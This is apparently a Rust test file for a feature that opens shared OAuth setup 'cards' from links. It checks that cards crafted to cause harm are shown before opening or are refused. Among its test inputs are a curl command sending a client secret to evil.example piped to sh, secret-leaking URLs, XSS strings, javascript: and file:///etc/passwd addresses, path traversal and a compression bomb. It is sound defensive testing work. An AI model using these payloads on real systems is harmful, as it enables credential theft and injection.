//! Cards that somebody made to do harm: they stay text, or are not opened.

use authdesk::desk::card::{
    CardFile, CardRefusal, DEEPEST, Draft, LONGEST_FILE, LONGEST_LINK, MOST, OfferView, Tree, is_link, kept, read_link,
    refused, view, write_link,
};
use authdesk::desk::{CardAction, Desk, Field, FileAction, Lazy, Route};
use authdesk::oauth::Secret;
use authdesk::texts::Language;
use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;

use super::files::draft_of;
use crate::desk::person::{CLIENT_SECRET, Person, read};

/// A small card that is whole.
fn sound() -> Draft {
    draft_of(&read("catalog/products/tines.json"), &[("en".to_owned(), read("catalog/products/tines.en.json"))])
}

/// A link that contains this text, whatever it is.
fn link_of(text: &[u8]) -> String {
    let packed = miniz_oxide::deflate::compress_to_vec(text, 9);
    format!("#/card?v=1&c={}", URL_SAFE_NO_PAD.encode(packed))
}

/// A link to the small card with one text for another.
fn changed(from: &str, to: &str) -> String {
    let text = sound().packed();
    assert!(text.contains(from), "{from}");
    link_of(text.replacen(from, to, 1).as_bytes())
}

#[track_caller]
fn refusal(link: &str) -> CardRefusal {
    let refusal = read_link(link).expect_err("it is not opened");
    // The page says why, and has no other card.
    let mut person = Person::at_card();
    let before = person.draft();
    person.does(CardAction::Arrived(Secret::new(link)));
    assert!(view(&person.0).refused.is_some_and(|says| !says.is_empty()));
    assert_eq!(view(&person.0).offer, None);
    assert_eq!(person.draft(), before);
    refusal
}

#[test]
fn a_card_from_a_link_is_shown_before_it_is_opened() {
    let link = write_link(&sound()).unwrap();
    assert!(is_link(&link) && !is_link("#/card") && !is_link("#/product/x?c=1"));
    assert_eq!(Route::parse(&link), Route::Card { variant: None });
    let mut person = Person::at_card();
    person.does(CardAction::Arrived(Secret::new(link.as_str())));
    let offer = view(&person.0).offer.unwrap();
    assert!(offer.is_sent && !offer.replaces);
    assert_eq!(offer.provider, "Zoom");
    assert!(
        offer.contains.starts_with("It contains: 3 fields and ") && !offer.contains.contains(" 0 "),
        "{}",
        offer.contains
    );
    assert_eq!((offer.name.as_str(), offer.vendor.as_str()), ("Tines", "Tines"));
    assert_eq!(offer.addresses, ["https://www.tines.com/docs/credentials/connect-flows/zoom/"]);
    assert_eq!(person.card_field("name").value, "", "it is not opened yet");
    person.types(Field::ClientSecret, CLIENT_SECRET);
    person.does(CardAction::Taken);
    assert!(view(&person.0).is_sent);
    assert_eq!(person.entry(Field::ClientSecret), "", "it gets nothing that was entered before");
    assert_eq!(person.draft(), sound());

    person.fills("name", "Mine");
    person.does(CardAction::Arrived(Secret::new(link)));
    assert!(view(&person.0).offer.unwrap().replaces, "a card that is there is asked for");
    person.does(CardAction::Dismissed);
    assert_eq!(person.card_field("name").value, "Mine");
}

#[test]
fn every_address_and_every_command_is_shown_first() {
    let facts = read("catalog/products/tines.json");
    let block = r#""blocks": [{ "id": "b", "format": "shell_command", "command": "curl -d @- evil.example",
        "lines": [["x", "{client_secret}"]], "after": ["| sh"] }], "values": ["#;
    let facts = facts.replacen("\"values\": [", block, 1);
    let facts = facts.replacen("{account_id}", "https://evil.example/?s={client_secret|url}", 1);
    let prose =
        read("catalog/products/tines.en.json").replacen("and enter its", "at WWW.evil.example and enter its", 1);
    let draft = draft_of(&facts, &[("en".to_owned(), prose)]);
    let mut person = Person::at_card();
    person.does(CardAction::Arrived(Secret::new(write_link(&draft).unwrap())));
    let offer = view(&person.0).offer.unwrap();
    assert_eq!(offer.commands, ["curl -d @- evil.example", "| sh"]);
    assert!(offer.addresses.contains(&"https://evil.example/?s={client_secret|url}".to_owned()), "{offer:?}");
    assert!(offer.addresses.iter().any(|text| text.contains("WWW.evil.example")), "{offer:?}");
}

/// What is shown of a card whose facts are made from those of the small one.
fn offer_of(change: impl Fn(String) -> String) -> OfferView {
    let facts = change(read("catalog/products/tines.json"));
    let draft = draft_of(&facts, &[("en".to_owned(), read("catalog/products/tines.en.json"))]);
    let mut person = Person::at_card();
    person.does(CardAction::Arrived(Secret::new(write_link(&draft).unwrap_or_else(|refusal| panic!("{refusal:?}")))));
    view(&person.0).offer.unwrap_or_else(|| panic!("{:?}", view(&person.0).refused))
}

#[test]
fn no_address_is_hidden_whatever_it_begins_with() {
    for text in [
        "../schema/ https://evil.example/?s={client_secret}",
        "../schema/product.json https://evil.example/",
        "\\\\evil.example\\share",
        "https:evil.example",
        "HTTP:evil.example/x",
        "x//evil.example",
        "mailto:a@evil.example",
    ] {
        let offer = offer_of(|facts| facts.replacen("{account_id}", &text.replace('\\', "\\\\"), 1));
        assert!(offer.addresses.contains(&text.to_owned()), "{text}: {:?}", offer.addresses);
    }
    // What is before the `@` is a user name, so it is not even opened.
    assert_eq!(refused("https://zoom.us@evil.example/"), Some(CardRefusal::Secret));
    for text in ["{account_id}", "user:read:admin", "C:\\Zoom", "and/or", "https", "../schema/product.json"] {
        let offer = offer_of(|facts| facts.replacen("{account_id}", &text.replace('\\', "\\\\"), 1));
        assert_eq!(offer.addresses.len(), 1, "{text}: {:?}", offer.addresses);
        assert_eq!(offer.joined, Vec::<String>::new(), "{text}");
    }
}

#[test]
fn what_puts_a_secret_together_with_anything_else_is_shown_first() {
    for secret in ["client_secret", "client_secret|url", "secret_token", "access_token|base64", "refresh_token"] {
        for text in [
            format!("evil.example/?s={{{secret}}}"),
            format!("{{{secret}}}.evil.example"),
            format!("{{account_id}}{{{secret}}}"),
        ] {
            let offer = offer_of(|facts| facts.replacen("{account_id}", &text, 1));
            assert_eq!(offer.joined, [format!("Account ID: {text}")], "with its field");
        }
        let alone = offer_of(|facts| facts.replacen("{account_id}", &format!("{{{secret}}}"), 1));
        assert_eq!(alone.joined, Vec::<String>::new(), "{secret}");
    }
    let second = offer_of(|facts| facts.replacen("{account_id}", "{second.client_secret}@evil.example", 1));
    assert_eq!(second.joined, ["Account ID: {second.client_secret}@evil.example"]);
    let harmless = offer_of(|facts| facts.replacen("{account_id}", "https://{redirect_url}/{client_id}", 1));
    assert_eq!(harmless.joined, Vec::<String>::new());
    let own = offer_of(|facts| {
        let input = r#""inputs": { "pin": { "kind": "secret", "label": "PIN" } }, "variants": ["#;
        facts.replacen("\"variants\": [", input, 1).replacen("{account_id}", "evil.example/{pin}", 1)
    });
    assert_eq!(own.joined, ["Account ID: evil.example/{pin}"]);
}

#[test]
fn the_lines_of_a_block_that_lead_a_secret_away_are_shown_first() {
    let with = |format: &str, command: &str, lines: &str| {
        let block =
            format!(r#""blocks": [{{ "id": "b", "format": "{format}", {command}"lines": [{lines}] }}], "values": ["#);
        offer_of(|facts| facts.replacen("\"values\": [", &block, 1)).joined
    };
    let curl = r#""command": "curl", "#;
    let url = with("shell_command", curl, r#"["--url", "evil.example/{access_token}"]"#);
    assert_eq!(url, ["evil.example/{access_token}"]);
    let apart = with("shell_command", curl, r#"["--data", "{client_secret}"], ["--url", "evil.example"]"#);
    assert_eq!(apart, ["--url = evil.example"]);
    let key = with("env", "", r#"["evil.example/?s", "{client_secret}"]"#);
    assert_eq!(key, ["evil.example/?s = {client_secret}"]);
    let settings = r#"["ZOOM_CLIENT_SECRET", "{client_secret}"], ["ZOOM_HOST", "zoom.us"]"#;
    assert_eq!(with("env", "", settings), Vec::<String>::new());
    assert_eq!(with("shell_command", curl, r#"["--url", "zoom.us"]"#), Vec::<String>::new(), "it gets no secret");
}

#[test]
fn a_link_that_is_refused_takes_the_offer_away_and_is_told_above_a_card_that_was_sent() {
    let link = write_link(&sound()).unwrap();
    let mut person = Person::at_card();
    person.does(CardAction::Arrived(Secret::new(link.as_str())));
    assert!(view(&person.0).offer.is_some());
    person.does(CardAction::Arrived(Secret::new("#/card?v=9&c=AAAA")));
    assert_eq!(view(&person.0).offer, None, "nobody opens the one before by mistake");
    assert!(view(&person.0).refused.is_some());
    person.does(CardAction::Arrived(Secret::new(link)));
    assert_eq!(view(&person.0).refused, None);
    person.opens("", "{");
    assert_eq!(view(&person.0).offer, None);
    assert!(view(&person.0).refused.is_some());
}

#[test]
fn a_card_that_was_sent_stays_one_over_a_reload_and_with_sentences_of_ones_own() {
    let mut person = Person::at_card();
    person.does(CardAction::Arrived(Secret::new(write_link(&sound()).unwrap())));
    person.does(CardAction::Taken);
    let mut next = Person::at_card();
    next.does(CardAction::Restored(kept(&person.0)));
    assert!(view(&next.0).is_sent);
    assert_eq!(next.draft(), sound());
    next.opens("tines.de.json", &read("catalog/products/tines.de.json"));
    next.does(CardAction::Taken);
    assert!(next.draft().prose_in("de").is_some());
    assert!(view(&next.0).is_sent, "the facts are still those of whoever sent them");
    next.opens("tines.json", &read("catalog/products/tines.json"));
    next.does(CardAction::Taken);
    assert!(!view(&next.0).is_sent);
    let mut own = Person::at_card();
    own.does(CardAction::Restored(kept(&next.0)));
    assert!(!view(&own.0).is_sent);
    // No link says it of itself, and none can say the opposite.
    let link = link_of(sound().packed().replacen("{\"facts\"", "{\"sent\":true,\"facts\"", 1).as_bytes());
    assert_eq!(refusal(&link), CardRefusal::NoCard);
}

#[test]
fn what_is_too_large_is_not_opened() {
    assert_eq!(refusal(&format!("#/card?v=1&c={}", "A".repeat(1_000_000))), CardRefusal::TooLong);
    // A megabyte of spaces is a kilobyte when it is compressed.
    let bomb = link_of(&vec![b' '; 64_000_000]);
    assert!(bomb.len() > LONGEST_LINK, "64 MB do not even fit");
    let bomb = link_of(&vec![b' '; 1_000_000]);
    assert!(bomb.len() < LONGEST_LINK);
    assert_eq!(refusal(&bomb), CardRefusal::TooLong);
    let most = LONGEST_FILE - 2;
    assert!(matches!(refusal(&link_of(&vec![b' '; most])), CardRefusal::NotJson { .. }), "the limit is exact");
    let deep = |levels: usize| format!("{{\"facts\":{}{}}}", "[".repeat(levels), "]".repeat(levels));
    assert_eq!(refusal(&link_of(deep(100_000).as_bytes())), CardRefusal::TooDeep);
    assert_eq!(refusal(&link_of(deep(DEEPEST).as_bytes())), CardRefusal::TooDeep);
    assert_eq!(refusal(&link_of(deep(DEEPEST - 1).as_bytes())), CardRefusal::NoCard, "the limit is exact");
    let many = |count: usize| format!("[{}0]", "0,".repeat(count - 2));
    assert_eq!(Tree::read(&many(MOST)).map(drop), Ok(()));
    assert_eq!(Tree::read(&many(MOST + 1)), Err(CardRefusal::TooMany));
    assert_eq!(CardFile::read("", &" ".repeat(LONGEST_FILE + 1)), Err(CardRefusal::TooLong));
}

#[test]
fn what_is_no_link_is_told() {
    for link in ["#/card?v=1&c=", "#/card?v=1&c=%00", "#/card?v=1&c=AAAA", "#/card?v=1&c=!!", "#/card?v=1&x=1&c=Ä"] {
        assert!(matches!(refusal(link), CardRefusal::NoLink | CardRefusal::NotJson { .. }), "{link}");
    }
    let link = write_link(&sound()).unwrap();
    for at in (20..link.len()).step_by(97) {
        assert!(read_link(&link[..at]).is_err(), "cut off after {at}");
    }
    assert_eq!(refusal(&link.replace("v=1", "v=2")), CardRefusal::Version("2".into()));
    assert_eq!(refusal(&link.replace("v=1&", "")), CardRefusal::Version(String::new()));
    assert_eq!(refusal(&format!("{link}&c=AAAA")), CardRefusal::Twice("c".into()));
    assert_eq!(refusal(&link_of(&[0xff, 0xfe, 0])), CardRefusal::NoLink);
    assert_eq!(read_link(&format!("{link}&more=1")), Ok(sound()), "what is not known is not read");
}

#[test]
fn keys_that_are_twice_or_unknown_and_other_versions_are_not_opened() {
    assert_eq!(refusal(&changed("\"vendor\":", "\"name\":\"Other\",\"vendor\":")), CardRefusal::Twice("name".into()));
    assert_eq!(refusal(&changed("\"doc\":{", "\"doc\":{},\"doc\":{")), CardRefusal::Twice("doc".into()));
    for (from, to) in [
        ("\"vendor\":", "\"script\":\"x\",\"vendor\":"),
        ("\"schema\":2", "\"schema\":3"),
        ("\"title\":", "\"onclick\":\"x\",\"title\":"),
        ("\"summary\":", "\"html\":\"x\",\"summary\":"),
        ("\"provider\":\"zoom\"", "\"provider\":\"../../zoom\""),
        ("\"id\":\"tines\"", "\"id\":\"../tines\""),
        ("{client_id}", "{client_id"),
    ] {
        assert!(matches!(refusal(&changed(from, to)), CardRefusal::Unfinished(_)), "{to}");
    }
    assert_eq!(refusal(&changed("\"facts\":", "\"more\":1,\"facts\":")), CardRefusal::NoCard);
    assert_eq!(refusal(&link_of(b"{\"facts\":{},\"prose\":{}}")), CardRefusal::NoCard);
    assert_eq!(refusal(&link_of(b"{\"facts\":[],\"prose\":{\"en\":{}}}")), CardRefusal::NoCard);
    assert_eq!(refusal(&link_of(b"{\"facts\":{},\"prose\":{\"../en\":{}}}")), CardRefusal::NoCard);
}

#[test]
fn an_address_is_one_of_the_web_with_tls() {
    let url = "https://www.tines.com/docs/credentials/connect-flows/zoom/";
    for other in [
        "javascript:alert(1)",
        "JavaScript:alert(1)",
        " javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "https:evil.example",
        "//evil.example",
        "file:///etc/passwd",
        "https://",
    ] {
        assert!(
            matches!(refusal(&changed(url, other)), CardRefusal::Insecure(_) | CardRefusal::Unfinished(_)),
            "{other}"
        );
    }
    assert_eq!(refusal(&changed(url, "http://a.example/")), CardRefusal::Insecure("http://a.example/".into()));
}

#[test]
fn what_nobody_sees_is_not_opened() {
    for ch in ['\u{202e}', '\u{2066}', '\u{200b}', '\u{ad}', '\u{feff}', '\u{e0041}', '\u{2028}'] {
        assert_eq!(refusal(&changed("Client secret", &format!("Client{ch}secret"))), CardRefusal::Unseen(ch));
    }
    for (escape, ch) in [("\\u0000", '\0'), ("\\n", '\n'), ("\\u001b", '\u{1b}'), ("\\u202e", '\u{202e}')] {
        assert_eq!(refusal(&changed("Client secret", &format!("Client{escape}secret"))), CardRefusal::Unseen(ch));
    }
    // In a name too.
    assert_eq!(refusal(&changed("\"doc\":{", "\"d\u{202e}oc\":{")), CardRefusal::Unseen('\u{202e}'));
    for text in ["Überprüfung", "C:\\Zoom", "日本語", "Ελληνικά", "a\u{a0}b", "naïve – „so“"] {
        assert_eq!(refused(text), None, "{text}");
    }
}

#[test]
fn script_stays_text() {
    let script = "<script>alert(1)</script><img src=x onerror=alert(1)>";
    let mut person = Person::at_card();
    person.does(CardAction::Arrived(Secret::new(changed("Client secret", script))));
    person.does(CardAction::Taken);
    assert_eq!(person.card_field("value-2-label").value, script);

    // As in the browser test, where it is looked at what the page makes of it.
    let mut person = Person::at_card();
    let sentence = "<a href='https://evil.example/'>**here**</a> <script>alert(3)</script>";
    let mut text = sound().packed();
    for (from, to) in [
        ("\"name\":\"Tines\"", "\"name\":\"<script>alert(1)</script>\""),
        ("\"label\":\"Client secret\"", "\"label\":\"<img src=x onerror=alert(2)>\""),
        ("The app must be active in Zoom before you connect.", sentence),
        ("{account_id}", "evil.example/?s={client_secret}"),
        ("{client_id}", "https://evil.example/{client_id}"),
    ] {
        assert!(text.contains(from), "{from}");
        text = text.replacen(from, to, 1);
    }
    person.does(CardAction::Arrived(Secret::new(link_of(text.as_bytes()))));
    let offer = view(&person.0).offer.unwrap();
    assert!(offer.joined.len() == 1 && offer.joined[0].ends_with(": evil.example/?s={client_secret}"), "{offer:?}");
    assert!(offer.addresses.contains(&sentence.to_owned()), "{offer:?}");
    person.does(CardAction::Taken);
    assert!(view(&person.0).is_current, "{:?}", person.wrong());
    assert!(person.0.guide().is_some());
}

#[test]
fn a_card_cannot_be_for_a_server_of_its_own() {
    let mut person = Person::at_card();
    let endpoints = "\"endpoints\":{\"authorize\":\"https://evil.example/a\",\"token\":\"https://evil.example/t\"},";
    let link = changed("\"vendor\":", &format!("{endpoints}\"vendor\":"));
    assert!(matches!(refusal(&link), CardRefusal::Unfinished(_)));
    let evil = changed("\"provider\":\"zoom\"", "\"provider\":\"evil\"");
    person.does(CardAction::Arrived(Secret::new(evil.as_str())));
    assert_eq!(view(&person.0).offer, None);
    assert!(view(&person.0).refused.is_some_and(|says| says.contains("“evil”")));
    let before = person.draft();
    person.does(CardAction::Taken);
    assert_eq!(person.draft(), before);
    // A link is read before the providers have arrived.
    let mut early = Person(Desk::new(Route::parse("#/card"), Language::ENGLISH));
    early.does(FileAction::Completed(Lazy::all()));
    early.does(CardAction::Arrived(Secret::new(evil)));
    assert!(view(&early.0).offer.is_some_and(|offer| offer.provider == "evil"));
    early.fetches();
    assert_eq!(view(&early.0).offer, None);
    assert!(view(&early.0).refused.is_some_and(|says| says.contains("“evil”")));
    // A file of one's own is opened, and says what is wrong with it.
    let mut own = Person::at_card();
    own.opens("", &read("catalog/products/tines.json").replace("\"zoom\"", "\"evil\""));
    assert!(own.wrong().iter().any(|fault| fault.contains("evil")), "{:?}", own.wrong());
    assert!(own.0.guide().is_none());
}
